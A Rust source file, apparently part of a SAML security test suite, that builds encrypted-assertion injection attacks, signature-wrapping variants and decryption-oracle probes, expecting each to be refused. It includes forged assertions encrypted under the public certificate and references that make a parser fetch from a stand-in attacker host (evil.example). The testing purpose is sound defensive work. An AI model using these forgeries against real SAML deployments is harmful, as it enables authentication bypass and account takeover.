//! Classes 14 and 15: what anybody can do who has the public certificate, or one ciphertext.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use countersign_dsig::encryption::ContentCipher;

use super::AttackClass::{DecryptionOracle, EncryptedInjection};
use super::attack::{Attack, Attacks, Expectation, Message};
use super::edit::{at_end, at_start, behind_issuer, wrap};
use super::forgery::{Forgery, attackers_signature};
use super::must;
use super::tree::{ASSERTION, DSIG, PROTOCOL, Tree};
use super::victim::Victim;
use crate::encryption::{Encryption, KeyTransport};

const XMLENC: &str = "http://www.w3.org/2001/04/xmlenc#";
const GENUINE: &str = "what was encrypted is genuine, and signed";
const NOT_READ: &str = "no reader of SAML looks there";

/// Forged assertions in encryption, which needs nobody's key.
pub(super) fn forgeries(victim: &Victim, certificate: &[u8]) -> Vec<Attack> {
    let mut attacks = Attacks::on(victim);
    let genuine = must(victim.assertion.as_ref());
    let forged = victim.evil_assertion();
    let signature = genuine.signature.as_deref().unwrap_or_default();
    let advice = wrap(ASSERTION, "Advice", &genuine.whole);
    let own = Forgery::all(victim, true).into_iter().next();
    let own = own.map_or_else(String::new, |forgery| {
        behind_issuer(&forgery.element, &attackers_signature(&forgery))
    });
    let plaintexts = [
        ("a forged assertion", forged.clone()),
        (
            "a forged assertion with the genuine signature",
            behind_issuer(&forged, signature),
        ),
        ("a forged assertion with the attacker's signature", own),
        (
            "a forged assertion around the genuine one",
            at_end(&forged, &genuine.whole),
        ),
        (
            "a forged assertion with the genuine one in front",
            at_start(&forged, &genuine.whole),
        ),
        (
            "a forged assertion with the genuine one as advice",
            at_end(&forged, &advice),
        ),
        (
            "a forged assertion behind the genuine one",
            format!("{}{forged}", genuine.whole),
        ),
        (
            "a forged assertion in front of the genuine one",
            format!("{forged}{}", genuine.whole),
        ),
        (
            "the genuine assertion under another name",
            victim.forged(&genuine.whole),
        ),
        ("a forged assertion that is signed by a part", {
            let object = wrap(DSIG, "Object", &genuine.whole);
            behind_issuer(&forged, &wrap(DSIG, "Signature", &object))
        }),
        ("an end tag", format!("</w>{forged}")),
        ("a forged assertion behind an end tag", {
            format!("</saml:EncryptedAssertion>{forged}<saml:EncryptedAssertion>")
        }),
        (
            "a document type",
            format!("<!DOCTYPE r [<!ENTITY e \"x\">]>{forged}"),
        ),
        ("an instruction", format!("<?x y?>{forged}")),
        ("a text", format!("x{forged}")),
        ("nothing", String::new()),
        ("the whole genuine response", victim.root.whole.clone()),
    ];
    let ciphers = [
        ("AES-256-GCM", ContentCipher::Aes256Gcm),
        ("AES-128-CBC", ContentCipher::Aes128Cbc),
    ];
    for (cipher_name, cipher) in ciphers {
        let encryption = Encryption::for_certificate(certificate).with_cipher(cipher);
        for (name, plaintext) in &plaintexts {
            let hidden = holder("EncryptedAssertion", &encryption, plaintext);
            let unsigned = victim.response(&hidden);
            let of = format!("{name}, {cipher_name}");
            let mut refused = |how: &str, xml: String| {
                attacks.refused(EncryptedInjection, format!("{of}, {how}"), xml);
            };
            refused("alone", unsigned.clone());
            refused(
                "in front",
                victim.response(&format!("{hidden}{}", genuine.whole)),
            );
            refused(
                "behind",
                victim.response(&format!("{}{hidden}", genuine.whole)),
            );
            if let Some(root) = &victim.root.signature {
                refused(
                    "under the genuine signature",
                    behind_issuer(&unsigned, root),
                );
                refused(
                    "added to what is signed",
                    at_end(&victim.root.whole, &hidden),
                );
            }
            attacks.harmless(
                EncryptedInjection,
                format!("{of}, in Extensions"),
                NOT_READ,
                victim.response(&format!(
                    "{}{}",
                    wrap(PROTOCOL, "Extensions", &hidden),
                    genuine.whole
                )),
            );
        }
        let again = holder("EncryptedAssertion", &encryption, &genuine.whole);
        attacks.harmless(
            EncryptedInjection,
            format!("the genuine assertion, {cipher_name}"),
            GENUINE,
            victim.response(&again),
        );
        let nested = holder("EncryptedAssertion", &encryption, &again);
        let nested = victim.response(&nested);
        attacks.refused(
            EncryptedInjection,
            format!("in encryption twice, {cipher_name}"),
            nested,
        );
        let name_id = format!(
            "<saml:NameID xmlns:saml=\"{ASSERTION}\">{}</saml:NameID>",
            super::ATTACKER
        );
        let hidden = holder("EncryptedID", &encryption, &name_id);
        for element in victim
            .tree
            .elements()
            .filter(|element| element.is(ASSERTION, "NameID"))
        {
            let instead = victim.tree.with(element.whole(), &hidden);
            attacks.refused(
                EncryptedInjection,
                format!("a forged name instead, {cipher_name}"),
                instead,
            );
            let at = element.whole().start;
            let beside = victim.tree.with(at..at, &hidden);
            attacks.refused(
                EncryptedInjection,
                format!("a forged name beside, {cipher_name}"),
                beside,
            );
        }
    }
    let weak = Encryption::for_certificate(certificate).with_transport(KeyTransport::Pkcs1);
    attacks.refused(
        DecryptionOracle,
        "the genuine assertion under RSA with PKCS#1 v1.5",
        victim.response(&holder("EncryptedAssertion", &weak, &genuine.whole)),
    );
    attacks.into_vec()
}

fn holder(name: &str, encryption: &Encryption, plaintext: &str) -> String {
    let content = encryption.encrypt(plaintext.as_bytes());
    format!("<w:{name} xmlns:w=\"{ASSERTION}\">{content}</w:{name}>")
}

/// A genuine ciphertext, changed in every way that an oracle could be asked.
pub(super) fn oracles(text: &str) -> Vec<Attack> {
    let tree = must(Tree::read(text));
    let mut made = Vec::new();
    let mut refused = |name: String, xml: String| {
        if xml != text {
            made.push(Attack {
                class: DecryptionOracle,
                name,
                messages: vec![Message::Xml(xml.into_bytes())],
                expectation: Expectation::Refused,
            });
        }
    };
    for value in tree
        .elements()
        .filter(|element| element.is(XMLENC, "CipherValue"))
    {
        let digits: String = value.inner_text().split_whitespace().collect();
        let bytes = must(STANDARD.decode(digits).ok());
        let of = format!("CipherValue at {}", value.index());
        let with = |bytes: &[u8]| tree.with(value.inner(), &STANDARD.encode(bytes));
        // The vector, the first blocks, the last ones and the tag.
        let ends = (0..64).chain(bytes.len().saturating_sub(64)..bytes.len());
        for at in ends.filter(|at| *at < bytes.len()) {
            for bit in [0x01, 0x80] {
                let mut flipped = bytes.clone();
                if let Some(byte) = flipped.get_mut(at) {
                    *byte ^= bit;
                }
                refused(format!("bit {bit:#x} of byte {at} of {of}"), with(&flipped));
            }
        }
        for cut in [1, 4, 8, 12, 15, 16, 17, 32] {
            let kept = bytes
                .get(..bytes.len().saturating_sub(cut))
                .unwrap_or_default();
            refused(format!("{of} without its last {cut} bytes"), with(kept));
            let kept = bytes.get(cut..).unwrap_or_default();
            refused(format!("{of} without its first {cut} bytes"), with(kept));
        }
        for kept in [0, 1, 12, 16, 28] {
            let kept_bytes = bytes.get(..kept).unwrap_or_default();
            refused(format!("{of} of {kept} bytes"), with(kept_bytes));
        }
        refused(
            format!("{of} with a block more"),
            with(&[&bytes[..], &[0; 16]].concat()),
        );
        refused(format!("{of} of zeros"), with(&vec![0; bytes.len()]));
        refused(format!("{of} twice"), with(&[&bytes[..], &bytes].concat()));
        let reference =
            format!("<x:CipherReference xmlns:x=\"{XMLENC}\" URI=\"http://evil.example/\"/>");
        refused(
            format!("{of} elsewhere"),
            tree.with(value.whole(), &reference),
        );
        refused(format!("no {of}"), tree.with(value.whole(), ""));
    }
    for method in tree
        .elements()
        .filter(|element| element.is(XMLENC, "EncryptionMethod"))
    {
        let tag = tree.cut(method.start_tag());
        let old = method.attribute("Algorithm").unwrap_or_default();
        for algorithm in [
            "http://www.w3.org/2001/04/xmlenc#aes128-cbc",
            "http://www.w3.org/2001/04/xmlenc#aes256-cbc",
            "http://www.w3.org/2009/xmlenc11#aes128-gcm",
            "http://www.w3.org/2009/xmlenc11#aes256-gcm",
            "http://www.w3.org/2001/04/xmlenc#tripledes-cbc",
            "http://www.w3.org/2001/04/xmlenc#rsa-1_5",
            "http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p",
            "http://www.w3.org/2001/04/xmlenc#kw-aes256",
            "",
        ] {
            if old != algorithm {
                let changed = tag.replace(&format!("\"{old}\""), &format!("\"{algorithm}\""));
                let name = format!("`{algorithm}` for the method at {}", method.index());
                refused(name, tree.with(method.start_tag(), &changed));
            }
        }
    }
    for key in tree
        .elements()
        .filter(|element| element.is(XMLENC, "EncryptedKey"))
    {
        refused(
            format!("no key at {}", key.index()),
            tree.with(key.whole(), ""),
        );
        let retrieval =
            format!("<d:RetrievalMethod xmlns:d=\"{DSIG}\" URI=\"http://evil.example/\"/>");
        refused(
            format!("a key to be fetched at {}", key.index()),
            tree.with(key.whole(), &retrieval),
        );
    }
    made
}
